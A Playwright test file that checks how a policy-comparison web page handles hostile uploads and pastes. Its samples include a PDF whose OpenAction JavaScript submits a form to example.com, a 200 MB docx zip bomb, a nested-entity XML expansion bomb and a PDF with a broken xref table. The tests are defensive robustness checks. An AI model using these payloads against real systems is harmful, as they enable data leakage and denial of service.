import { expect, test, type Page } from '@playwright/test';
import { strToU8, zipSync } from 'fflate';
import { madePdf } from '../testing/madePdf.ts';
import { watchViolations } from './violations.ts';

const ADDRESS = './#/policies/bcbsma-260/2024-09/compare';

const latin1 = (text: string): Uint8Array => Uint8Array.from(text, (character) => character.charCodeAt(0));
const scripts = '/OpenAction << /S /JavaScript /JS (app.alert\\("x"\\); this.submitForm\\("https://example.com"\\)) >>';
const withoutPlaces = latin1(
  new TextDecoder('latin1')
    .decode(madePdf([['Nothing of this is a policy that anybody holds.']]))
    .replace(/\d{10} 00000 n/g, '9999999999 00000 n')
    .replace(/startxref\n\d+/, 'startxref\n99999999'),
);

const hostile: readonly (readonly [what: string, name: string, bytes: () => Uint8Array, says: RegExp])[] = [
  // Neighbors end in different sentences, so that an old one is not taken for the new.
  ['ten thousand pages', 'b.pdf', () => madePdf(Array.from({ length: 10_000 }, () => ['x'])), /more than 500 pages/],
  [
    'a PDF with scripts and a form that sends',
    'a.pdf',
    () => madePdf([['A list for the market: eggs, milk and bread.']], { catalog: scripts }),
    /Your copy is another policy/,
  ],
  [
    'a Word document that unfolds to 200 MB',
    'd.docx',
    () => zipSync({ 'word/document.xml': new Uint8Array(200_000_000) }, { level: 9 }),
    /larger than 50 MB/,
  ],
  ['a table of places that leads nowhere', 'c.pdf', () => withoutPlaces, /Your copy is another policy/],
  [
    'a Word document with entities inside entities',
    'e.docx',
    () =>
      zipSync({
        'word/document.xml': strToU8(
          `<!DOCTYPE w [<!ENTITY a "ha">${Array.from('bcdefghij', (name, at) => `<!ENTITY ${name} "${`&${'abcdefghi'[at] ?? ''};`.repeat(10)}">`).join('')}]><w:document><w:p><w:t>&j;</w:t></w:p></w:document>`,
        ),
      }),
    /damaged/,
  ],
  [
    'text from right to left',
    'f.txt',
    () => strToU8('\u202Eמדיניות 77 אינה כאן\u202C\n'.repeat(400)),
    /Your copy is another policy/,
  ],
];

/** Whatever the page asks of any host from now on. */
const requestsOf = (page: Page): readonly string[] => {
  const asked: string[] = [];
  page.on('request', (request) => {
    if (!request.url().startsWith('blob:')) asked.push(request.url());
  });
  return asked;
};

test('whatever document is given, a sentence comes, nothing is sent, and the page goes on', async ({ page }) => {
  test.setTimeout(180_000);
  const violations = await watchViolations(page);
  page.on('dialog', (dialog) => {
    throw new Error(`The page said: ${dialog.message()}`);
  });
  await page.goto(ADDRESS);
  // What reads documents is there from here on.
  await page.locator('textarea[name="copy"]').fill('A list for the market: eggs, milk and bread.');
  await expect(page.locator('[data-comparison="another"]')).toBeVisible();
  for (const [what, name, bytes, says] of hostile) {
    await test.step(what, async () => {
      const asked = requestsOf(page);
      await page.locator('input[name="document"]').setInputFiles({ name, mimeType: '', buffer: Buffer.from(bytes()) });
      await expect(page.getByText('Reading and comparing your copy.')).toHaveCount(0, { timeout: 60_000 });
      await expect(page.locator('main')).toContainText(says, { timeout: 60_000 });
      expect(asked.filter((address) => !address.includes('/assets/'))).toEqual([]);
    });
  }
  await test.step('51 MB, made in the page', async () => {
    await page.locator('input[name="document"]').evaluate((input) => {
      if (!(input instanceof HTMLInputElement)) throw new TypeError('no field for a file');
      const chosen = new DataTransfer();
      chosen.items.add(new File([new Uint8Array(51 * 1_048_576).fill(0x61)], 'g.txt'));
      input.files = chosen.files;
      input.dispatchEvent(new Event('change', { bubbles: true }));
    });
    await expect(page.locator('main')).toContainText('larger than 50 MB');
  });
  expect(await violations()).toEqual([]);
});

test('100 MB that are pasted are refused in a sentence and never reach the field', async ({ page }) => {
  await page.goto(ADDRESS);
  const field = page.locator('textarea[name="copy"]');
  await field.focus();
  await field.evaluate((element) => {
    const clipboardData = new DataTransfer();
    clipboardData.setData('text/plain', 'word '.repeat(20_000_000));
    const pasted = new ClipboardEvent('paste', { clipboardData, bubbles: true, cancelable: true });
    if (element.dispatchEvent(pasted)) throw new Error('the field takes it');
  });
  await expect(page.getByText('This text is longer than any policy.')).toBeVisible();
  await expect(field).toHaveValue('');
  await field.fill('A list for the market: eggs, milk and bread.');
  await expect(page.locator('[data-comparison="another"]')).toBeVisible();
});
